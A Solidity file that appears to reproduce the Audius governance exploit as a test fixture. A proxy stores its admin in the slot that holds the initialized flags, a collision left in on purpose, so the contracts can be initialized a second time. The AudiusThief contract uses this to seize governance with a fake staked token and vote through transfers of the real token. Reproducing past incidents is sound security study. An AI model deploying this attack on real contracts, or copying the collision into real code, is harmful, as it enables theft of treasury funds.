// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Token} from "../props/Tokens.sol";

/// A proxy that keeps its administrator in the first slot, where the code behind it keeps whether it is initialized.
contract FirstSlotProxy {
    address private proxyAdmin;

    event Upgraded(address indexed implementation);

    // keccak256("eip1967.proxy.implementation") - 1
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address implementation, address admin, bytes memory data) {
        set(implementation);
        if (data.length > 0) {
            (bool ok,) = implementation.delegatecall(data);
            require(ok, "not initialized");
        }
        proxyAdmin = admin;
    }

    function upgradeTo(address implementation) external {
        require(msg.sender == proxyAdmin, "Caller must be proxy admin");
        set(implementation);
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    function set(address implementation) private {
        assembly { sstore(SLOT, implementation) }
        emit Upgraded(implementation);
    }
}

abstract contract OldInitializable {
    bool private initialized;
    bool private initializing;

    modifier initializer() {
        require(initializing || !initialized, "Contract instance has already been initialized");
        bool isTopLevelCall = !initializing;
        if (isTopLevelCall) (initializing, initialized) = (true, true);
        _;
        if (isTopLevelCall) initializing = false;
    }

    // The proxy's own first slot; whatever comes next begins in the second.
    uint256[50] private gap;
}

/// Stakes give votes.
contract AudiusStaking is OldInitializable {
    Token public stakingToken;
    address public governance;
    uint256 public totalStaked;
    mapping(address => uint256) public totalStakedFor;

    event Staked(address indexed user, uint256 amount, uint256 total);
    event Unstaked(address indexed user, uint256 amount, uint256 total);

    function initialize(Token token, address governance_) external initializer {
        (stakingToken, governance) = (token, governance_);
    }

    function stake(uint256 amount) external {
        stakingToken.transferFrom(msg.sender, address(this), amount);
        totalStaked += amount;
        totalStakedFor[msg.sender] += amount;
        emit Staked(msg.sender, amount, totalStakedFor[msg.sender]);
    }

    function unstake(uint256 amount) external {
        totalStaked -= amount;
        totalStakedFor[msg.sender] -= amount;
        stakingToken.transfer(msg.sender, amount);
        emit Unstaked(msg.sender, amount, totalStakedFor[msg.sender]);
    }
}

/// Stakers decide; what they decide is called. It holds the community's treasury.
contract AudiusGovernance is OldInitializable {
    struct Proposal {
        uint256 submittedAt;
        address target;
        uint256 value;
        bytes data;
        uint256 yes;
        uint256 no;
        bool done;
    }

    AudiusStaking public staking;
    uint256 public votingPeriod;
    uint256 public executionDelay;
    uint256 public votingQuorumPercent;
    address public guardianAddress;
    Proposal[] private proposals;
    mapping(uint256 => mapping(address => bool)) private voted;

    event ProposalSubmitted(uint256 indexed proposalId, address indexed proposer, string name, string description);
    event ProposalVoteSubmitted(uint256 indexed proposalId, address indexed voter, bool vote, uint256 voterStake);
    event ProposalOutcomeEvaluated(uint256 indexed proposalId, bool outcome, uint256 voteMagnitudeYes, uint256 voteMagnitudeNo);
    event ProposalTransactionExecuted(uint256 indexed proposalId, bool success, bytes returnData);

    function initialize(AudiusStaking staking_, uint256 period, uint256 delay, uint256 quorum, address guardian)
        external
        initializer
    {
        (staking, votingPeriod, executionDelay) = (staking_, period, delay);
        (votingQuorumPercent, guardianAddress) = (quorum, guardian);
    }

    function submitProposal(address target, uint256 value, bytes calldata data, string calldata name, string calldata text)
        external
        returns (uint256 id)
    {
        require(staking.totalStakedFor(msg.sender) > 0 || msg.sender == guardianAddress, "no stake");
        id = proposals.length;
        Proposal storage proposal = proposals.push();
        (proposal.submittedAt, proposal.target, proposal.value, proposal.data) = (block.number, target, value, data);
        emit ProposalSubmitted(id, msg.sender, name, text);
    }

    function submitVote(uint256 id, bool yes) external {
        Proposal storage proposal = proposals[id];
        require(block.number <= proposal.submittedAt + votingPeriod, "vote is over");
        require(!voted[id][msg.sender], "voted");
        voted[id][msg.sender] = true;
        uint256 weight = staking.totalStakedFor(msg.sender);
        if (yes) proposal.yes += weight;
        else proposal.no += weight;
        emit ProposalVoteSubmitted(id, msg.sender, yes, weight);
    }

    function evaluateProposalOutcome(uint256 id) external {
        Proposal storage proposal = proposals[id];
        require(block.number > proposal.submittedAt + votingPeriod + executionDelay, "not yet");
        require(!proposal.done, "done");
        proposal.done = true;
        uint256 cast = proposal.yes + proposal.no;
        bool passed = cast * 100 >= staking.totalStaked() * votingQuorumPercent && proposal.yes > proposal.no;
        emit ProposalOutcomeEvaluated(id, passed, proposal.yes, proposal.no);
        if (!passed) return;
        (bool ok, bytes memory out) = proposal.target.call{value: proposal.value}(proposal.data);
        require(ok, "the transaction failed");
        emit ProposalTransactionExecuted(id, ok, out);
    }

    function proposalCount() external view returns (uint256) {
        return proposals.length;
    }
}

/// Initializes what was initialized, stakes a token of its own making, and decides.
contract AudiusThief {
    uint256[] private ids;

    function begin(AudiusGovernance governance, AudiusStaking staking, Token real, address payee, uint256[] calldata amounts)
        external
    {
        Token fake = new Token("AUDIO", 18);
        fake.mint(address(this), 1e31);
        governance.initialize(staking, 3, 0, 1, address(this));
        staking.initialize(fake, address(this));
        fake.approve(address(staking), 1e31);
        staking.stake(1e31);
        for (uint256 i = 0; i < amounts.length; i++) {
            bytes memory data = abi.encodeCall(real.transfer, (payee, amounts[i]));
            ids.push(governance.submitProposal(address(real), 0, data, "Hello", "World"));
        }
    }

    function vote(AudiusGovernance governance) external {
        for (uint256 i = 0; i < ids.length; i++) governance.submitVote(ids[i], true);
    }

    function finish(AudiusGovernance governance, uint256 which) external {
        governance.evaluateProposalOutcome(ids[which]);
    }
}
